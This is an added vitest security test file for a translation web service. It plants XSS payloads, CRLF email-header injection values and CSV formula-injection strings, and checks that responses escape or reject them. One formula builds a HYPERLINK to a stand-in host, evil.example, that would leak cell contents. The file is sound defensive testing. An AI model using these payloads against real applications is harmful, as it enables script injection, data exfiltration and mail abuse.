@@ -1,0 +1,179 @@
+import { downloadResponse, listPromptsResponse, savedPromptResponse } from '@verso/contracts';
+import { auditLog, users } from '@verso/db';
+import { eq } from '@verso/db/query';
+import { docx, paragraph } from '@verso/engine/fixtures';
+import { type Simulator, startSimulator } from '@verso/simulator';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { readOutbox, send, signUp, type TestUser } from '../../src/testing/index.ts';
+import { signUpAdministrator } from '../admin/administrator.ts';
+import { invitationSubject, invite, signUpOwner } from '../teams/team.ts';
+import { geminiOf, setPlan, start, until } from '../translations/client.ts';
+import { bootWatched, type WatchedServer } from './watched-server.ts';
+
+const script = '<script>alert(1)</script>';
+const image = '"><img src=x onerror=alert(1)>';
+const formula = '=HYPERLINK("http://evil.example?"&A1,"x")';
+const lines = 'Acme\r\nBcc: everybody@example.com\r\n\r\nBuy now';
+
+/** What a browser would take for markup, wherever it stands in a page. */
+const markup = /<script>alert|<img src=x/;
+
+describe('text that somebody planted', () => {
+  let simulator: Simulator;
+  let server: WatchedServer;
+  let user: TestUser;
+  let admin: TestUser;
+  beforeAll(async () => {
+    simulator = await startSimulator();
+    // A model that repeats what it is given says whatever somebody wants it to.
+    simulator.behave({ rates: { echo: 1 } });
+    server = await bootWatched({ env: geminiOf(simulator) });
+    user = await signUp(server);
+    admin = await signUpAdministrator(server);
+    await setPlan(server, user, 'pro');
+  });
+  afterAll(async () => {
+    await server.close();
+    await simulator.close();
+  });
+
+  const isData = async (path: string, who: TestUser = user) => {
+    const answer = await send(server, path, { user: who });
+    expect([path, answer.status]).toEqual([path, 200]);
+    expect(answer.headers.get('content-type')).toContain('application/json');
+    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(answer.headers.get('cache-control')).toBe('no-store');
+    expect(answer.headers.get('content-security-policy')).toContain("script-src 'self';");
+    return answer.text();
+  };
+  const isSavedNotShown = async (answer: Response) => {
+    expect(answer.status).toBe(200);
+    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="/);
+    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'");
+    expect(answer.headers.get('content-security-policy')).toContain('sandbox');
+    expect(answer.headers.get('content-type')).not.toMatch(/html|svg|javascript/);
+    return answer;
+  };
+
+  it('in the name of a file and in a document reaches browsers as data or as a file to save', async () => {
+    const filename = `${image}.md`;
+    const { id } = await start(server, user, {
+      bytes: Buffer.from(`# ${script}\n\n${image}\n\nAn honest line about the weather.\n`),
+      filename,
+      mimeType: 'text/markdown',
+    });
+    await until(server, user, id, 'completed');
+    expect(await isData('/api/translations')).toContain('onerror');
+    await isData(`/api/translations/${id}`);
+    await isData(`/api/translations/${id}/units`);
+    for (const kind of ['original', 'translated']) {
+      const linked = await send(server, `/api/translations/${id}/download?kind=${kind}`, { user });
+      const { url } = downloadResponse.parse(await linked.json());
+      const file = await isSavedNotShown(await fetch(new URL(url, server.url)));
+      expect(file.headers.get('content-disposition')).not.toMatch(/[\r\n]|filename="[^"]*"[^;]/);
+    }
+    for (const format of ['html', 'xliff', 'tmx', 'docx']) {
+      const path = `/api/translations/${id}/export?format=${format}`;
+      const text = await (await isSavedNotShown(await send(server, path, { user }))).text();
+      expect(text).not.toMatch(markup);
+    }
+  });
+
+  it('in what a model answered is text in every page and file made of it', async () => {
+    const { id } = await start(server, user, {
+      bytes: docx(paragraph(`Say ${script} ${image} to everybody`)),
+    });
+    await until(server, user, id, 'completed');
+    const units = JSON.parse(await isData(`/api/translations/${id}/units`));
+    expect(JSON.stringify(units)).toMatch(markup);
+    const page = await (await send(server, `/api/translations/${id}/export?format=html`, { user })).text();
+    expect(page.match(/&lt;script/g)?.length).toBe(2);
+    expect(page).not.toMatch(markup);
+  });
+
+  it('in prompts, names and feedback reaches browsers as data', async () => {
+    const saved = await send(server, '/api/prompts', {
+      user,
+      json: { name: script, prompt_content: image, category: 'legal', visibility: 'public' },
+    });
+    savedPromptResponse.parse(await saved.json());
+    const prompts = await isData('/api/prompts');
+    expect(listPromptsResponse.parse(JSON.parse(prompts)).prompts.map(({ name }) => name)).toContain(script);
+    await send(server, '/api/feedback/submit', {
+      user,
+      json: { type: 'bug', message: image, userAgent: script, metadata: {} },
+    });
+    await isData('/api/admin/feedback', admin);
+    await send(server, '/api/auth/update-user', { cookieOf: user, json: { name: script } });
+    expect(await isData('/api/me')).toContain('<script>');
+    await isData('/api/admin/users', admin);
+  });
+
+  it('in an address of the page comes back in no page', async () => {
+    for (const path of [
+      `/?q=${encodeURIComponent(script)}`,
+      `/${encodeURIComponent(image)}`,
+      `/api/${script}`,
+    ]) {
+      const answer = await send(server, path, { headers: { accept: 'text/html' } });
+      expect(await answer.text()).not.toMatch(markup);
+    }
+  });
+
+  it('in names of workspaces and people makes no markup and no headers in mails', async () => {
+    const owner = await signUpOwner(server, `${image} ${lines}`.slice(0, 60));
+    await invite(server, owner, 'guest@example.com');
+    const { mail } = await readOutbox(server.directory, 'guest@example.com', invitationSubject);
+    expect(mail.html ?? '').not.toMatch(markup);
+    expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
+    expect(mail.bcc ?? []).toEqual([]);
+    expect(mail.to).toHaveLength(1);
+  });
+
+  it('in the address of an account reaches nobody else', async () => {
+    for (const email of [
+      'victim@example.com\r\nBcc: x@example.com',
+      'victim@example.com, other@example.com',
+      'victim@example.com%0aBcc:x@example.com',
+    ]) {
+      const answer = await send(server, '/api/auth/sign-up/email', {
+        json: { name: 'n', email, password: 'correct horse battery' },
+      });
+      expect(answer.status).toBeGreaterThanOrEqual(400);
+      expect(answer.status).toBeLessThan(500);
+    }
+    await server.expectLogged({ route: '/api/auth/sign-up/email' }, 'Bcc');
+  });
+
+  describe('as a formula', () => {
+    const isHarmless = async (path: string, who: TestUser) => {
+      const answer = await isSavedNotShown(await send(server, path, { user: who }));
+      const text = await answer.text();
+      for (const cell of text.split(/\r\n|,/)) expect(cell).not.toMatch(/^"?[=+\-@\t\r](?!\d)/);
+      return text;
+    };
+
+    it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', formula])(
+      'is text in the audit log: %j',
+      async (text) => {
+        await server.context.database.orm.insert(auditLog).values({
+          actorId: admin.id,
+          actorEmail: text,
+          action: text,
+          entity: text,
+          entityId: text,
+        });
+        const csv = await isHarmless('/api/admin/audit-log/export', admin);
+        expect(csv).toContain(`'${text}`.replaceAll('"', '""'));
+      },
+    );
+
+    it('is text in the usage log, alone and in the archive of an account', async () => {
+      await server.context.database.orm.update(users).set({ name: formula }).where(eq(users.id, user.id));
+      await isHarmless('/api/account/usage.csv', user);
+      const archive = await send(server, '/api/account/export', { user });
+      await isSavedNotShown(archive);
+    });
+  });
+});
